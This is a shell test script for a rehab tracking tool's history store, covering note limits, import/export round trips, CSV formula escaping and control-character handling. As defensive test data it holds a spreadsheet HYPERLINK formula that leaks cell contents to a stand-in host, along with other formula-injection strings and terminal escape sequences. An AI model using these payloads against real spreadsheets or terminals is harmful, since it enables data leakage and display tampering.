#!/bin/sh
# store-trust.sh - every export imports back, no report is lost, nothing
# hostile gets through: the note limit that appending keeps, report ids
# across export and import (and from a schema-2 history), CSV cells that
# are never formulas, control characters refused on the way in and
# escaped on the way out.
. "$top_srcdir/tests/lib.sh"

fix="$top_srcdir/tests/fixtures/store"
lib="--library=$fix/library"
x1000=$(printf '%01000d' 0 | tr 0 x)

# --- a session's note never grows past the limit ---------------------------

data="$test_tmp/notes"
run "$REHABIT" --data-dir "$data" $lib import "$fix/history.yaml"
is "$rc" 0 "import the sessions"
# "felt fine" (9 bytes) and four notes of 1000, each after "; ": 4017.
n=0
for i in 1 2 3 4; do
	"$REHABIT" --data-dir "$data" pain --date 2026-11-02T19:00+00:00 \
	    --note "$x1000" >/dev/null && n=$((n + 1))
done
is "$n" 4 "four notes of 1000 bytes appended to the session's"
run "$REHABIT" --data-dir "$data" pain --date 2026-11-02T19:00+00:00 \
    --note "$x1000"
is "$rc" 65 "a fifth would pass 4096 bytes: exit 65"
is "$err" "rehabit: $data/history.db: the session's note has room for 77 more bytes of the 4096 a note may hold: write a shorter note" \
    "says how much room is left"
db="$data/history.db"
is "$(sql "SELECT length(note) FROM session WHERE start = 1793638800")" 4017 \
    "the note is unchanged"
run "$REHABIT" --data-dir "$data" pain --date 2026-11-02T19:00+00:00 \
    --note "$(printf '%077d' 0)"
is "$rc" 0 "a note that fills it to exactly 4096 bytes is kept"
pains=$(sql "SELECT count(*) FROM pain")
run "$REHABIT" --data-dir "$data" pain --date 2026-11-02T19:00+00:00 \
    --note "a" --after 2
is "$rc" 65 "then even one byte more is refused"
like "$err" "room for 0 more bytes" "... with room for 0"
is "$(sql "SELECT count(*) FROM pain")" "$pains" \
    "and the score given with it is not saved either"
run "$REHABIT" --data-dir "$data" export "$test_tmp/notes.yaml"
is "$rc" 0 "export exits 0"
run "$REHABIT" --data-dir "$test_tmp/notes2" $lib import "$test_tmp/notes.yaml"
is "$rc" 0 "the export of a full note imports into an empty history"
is "$err" "" "... without a word"
run "$REHABIT" --data-dir "$test_tmp/notes2" export "$test_tmp/notes2.yaml"
ok "... and exports again byte for byte" cmp -s "$test_tmp/notes.yaml" \
    "$test_tmp/notes2.yaml"

# --- reports made in the same second stay two -------------------------------

data="$test_tmp/same"
"$REHABIT" --data-dir "$data" pain --after 6 --date 2026-11-01 \
    --flag swelling >/dev/null
"$REHABIT" --data-dir "$data" pain --after 3 --date 2026-11-01 >/dev/null
run "$REHABIT" --data-dir "$data" export "$test_tmp/same.yaml"
is "$rc" 0 "two after-pain reports of one second: export exits 0"
is "$(grep -c '^- id: [0-9a-f]\{16\}$' "$test_tmp/same.yaml")" 2 \
    "each report has its id"
run "$REHABIT" --data-dir "$test_tmp/same2" import "$test_tmp/same.yaml"
is "$out" "Imported $test_tmp/same.yaml: 0 new sessions, 0 already there; 2 new pain reports, 0 already there." \
    "both imported"
run "$REHABIT" --data-dir "$test_tmp/same2" import "$test_tmp/same.yaml"
is "$out" "Imported $test_tmp/same.yaml: 0 new sessions, 0 already there; 0 new pain reports, 2 already there." \
    "imported again: nothing added"
db="$test_tmp/same2/history.db"
is "$(sql "SELECT score, flags FROM pain ORDER BY id" | tr '\n' ' ')" \
    "6|1 3|0 " "the swelling is kept, with its report"
run "$REHABIT" --data-dir "$test_tmp/same2" export "$test_tmp/same2.yaml"
ok "exported again: the same file" cmp -s "$test_tmp/same.yaml" \
    "$test_tmp/same2.yaml"

# A file from before ids: equal reports are one, different ones are two.
cat >"$test_tmp/old.yaml" <<'YAML'
format: rehabit-history/1
sessions: []
pain:
  - {at: "2026-11-01T23:59:59+00:00", kind: after, score: 6, flags: [swelling]}
  - {at: "2026-11-01T23:59:59+00:00", kind: after, score: 3, flags: []}
YAML
run "$REHABIT" --data-dir "$test_tmp/old" import "$test_tmp/old.yaml"
like "$out" "2 new pain reports, 0 already there" \
    "an older file without ids: both reports"
run "$REHABIT" --data-dir "$test_tmp/old" import "$test_tmp/old.yaml"
like "$out" "0 new pain reports, 2 already there" \
    "... and imported twice, still two"

cat >"$test_tmp/dup.yaml" <<'YAML'
format: rehabit-history/1
pain:
  - {id: a1, at: "2026-11-01T23:59:59+00:00", kind: after, score: 6, flags: []}
  - {id: a1, at: "2026-11-01T23:59:59+00:00", kind: after, score: 3, flags: []}
  - {id: "Not an id!", at: "2026-11-01T23:59:59+00:00", kind: after, score: 3}
YAML
run "$REHABIT" --data-dir "$test_tmp/dup" import "$test_tmp/dup.yaml"
is "$rc" 65 "a bad report id: exit 65"
is "$err" "$test_tmp/dup.yaml:5:10: id: 'Not an id!' is not a report id (1 to 64 of a-z, 0-9 and -)
rehabit: $test_tmp/dup.yaml: nothing imported" "a bad id, located"
sed -i '$d' "$test_tmp/dup.yaml"
run "$REHABIT" --data-dir "$test_tmp/dup" import "$test_tmp/dup.yaml"
is "$err" "rehabit: import: $test_tmp/dup.yaml: two pain reports have the id a1" \
    "one id twice in a file: refused"
ok "nothing imported" test ! -e "$test_tmp/dup/history.db"

# --- a schema-2 history: its reports get ids ------------------------------

data="$test_tmp/v2"
mkdir -p "$data"
sqlite3 "$data/history.db" <"$fix/schema-v2.sql"
run "$REHABIT" --data-dir "$data" export "$test_tmp/v2.yaml"
is "$rc" 0 "a version-2 history exports"
db="$data/history.db"
is "$(sql 'PRAGMA user_version')" 4 "migrated to version 4"
is "$(sql 'SELECT count(DISTINCT uid) FROM pain WHERE session IS NULL')" 2 \
    "each report on its own has an id"
is "$(sql 'SELECT count(uid) FROM pain WHERE session IS NOT NULL')" 0 \
    "a session's pain needs none"
run "$REHABIT" --data-dir "$test_tmp/v2b" $lib import "$test_tmp/v2.yaml"
like "$out" "1 new session, 0 already there; 2 new pain reports" \
    "both reports of the same second import"
run "$REHABIT" --data-dir "$test_tmp/v2b" export "$test_tmp/v2b.yaml"
ok "and export the same" cmp -s "$test_tmp/v2.yaml" "$test_tmp/v2b.yaml"

# --- CSV: no formulas -------------------------------------------------------

data="$test_tmp/csv"
i=1
for note in '=HYPERLINK("http://x/?"&A1,"ok")' '+1' '-2 after stairs' \
    '@SUM(A1)' "$(printf '\tx')" 'fine, -ish' '5 = ok'; do
	"$REHABIT" --data-dir "$data" pain --after 1 \
	    --date "2026-11-0${i}T07:00+00:00" --note "$note" >/dev/null
	i=$((i + 1))
done
run "$REHABIT" --data-dir "$data" export --format csv
is "$(printf '%s\n' "$out" | tr -d '\r' | sed -n '2,$p' | cut -d, -f9-)" \
"\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"ok\"\")\",,,,,,
\"'+1\",,,,,,
\"'-2 after stairs\",,,,,,
\"'@SUM(A1)\",,,,,,
\"'	x\",,,,,,
\"fine, -ish\",,,,,,
5 = ok,,,,,," "a note a spreadsheet would run gets a leading '"

# --- control characters: refused on the way in, escaped on the way out ------

data="$test_tmp/ctl"
cat >"$test_tmp/ctl.yaml" <<'YAML'
format: rehabit-history/1
pain:
  - {at: "2026-11-01T07:00:00+00:00", kind: after, score: 1, note: "\e[2J\e]0;pwn\a"}
  - {at: "2026-11-02T07:00:00+00:00", kind: after, score: 1, note: "cut\0here"}
  - {at: "2026-11-03T07:00:00+00:00", kind: "\e[2J", score: 1}
YAML
run "$REHABIT" --data-dir "$data" import "$test_tmp/ctl.yaml"
is "$rc" 65 "control characters in an import: exit 65"
is "$err" "$test_tmp/ctl.yaml:3:68: note: not text (UTF-8, at most 4096 bytes, no control characters but tab and newline)
$test_tmp/ctl.yaml:4:68: note: a NUL character is not text
$test_tmp/ctl.yaml:5:45: kind: '\\x1b[2J' is not during, after or morning
rehabit: $test_tmp/ctl.yaml: nothing imported" \
    "each refused where it is, and quoted escaped"
ok "nothing imported" test ! -e "$data/history.db"

# A history written before the checks: what it holds is escaped on the way
# out, never sent raw to a terminal.
"$REHABIT" --data-dir "$data" pain --after 1 --date 2026-11-01T07:00+00:00 \
    >/dev/null
db="$data/history.db"
sql "UPDATE pain SET note = 'a' || char(27) || '[2J' || char(7) || 'b' || char(155)"
run "$REHABIT" --data-dir "$data" export --format csv
like "$out" '^2026-11-01T07:00:00\+00:00,,,,,1,,,a\\x1b\[2J\\x07b\\xc2\\x9b,' \
    "CSV: control characters escaped"
unlike "$out" "$(printf '\033')" "CSV: no raw ESC"
run "$REHABIT" --data-dir "$data" export
like "$out" '  note: "a\\e\[2J\\ab\\x9B"' "YAML: escaped by the emitter"
unlike "$out" "$(printf '\033')" "YAML: no raw ESC"

data="$test_tmp/legacy"
run "$REHABIT" --data-dir "$data" $lib import "$fix/history.yaml"
db="$data/history.db"
sql "UPDATE pain SET note = 'a' || char(27) || '[2J' || char(7) WHERE session IS NULL"
run "$REHABIT" --data-dir "$data" $lib report
like "$out" '^- 2026-11-05: swelling - "a\\x1b\[2J\\x07"$' \
    "report: a red flag's note escaped"
unlike "$out" "$(printf '\033')" "report: no raw ESC"

run "$REHABIT" check "$test_tmp/$(printf 'a\033]0;pwn\007b')"
is "$err" "rehabit: check: $test_tmp/a\\x1b]0;pwn\\x07b: No such file or directory" \
    "check names a file escaped"
mkdir -p "$test_tmp/lib"
printf 'exercises: [\n' >"$test_tmp/lib/$(printf 'e\033[2Jx').yaml"
run "$REHABIT" check "$test_tmp/lib"
like "$err" "^$test_tmp/lib/e\\\\x1b\\[2Jx.yaml:" \
    "a problem's file name escaped"
unlike "$err" "$(printf '\033')" "no raw ESC in its messages"

done_testing
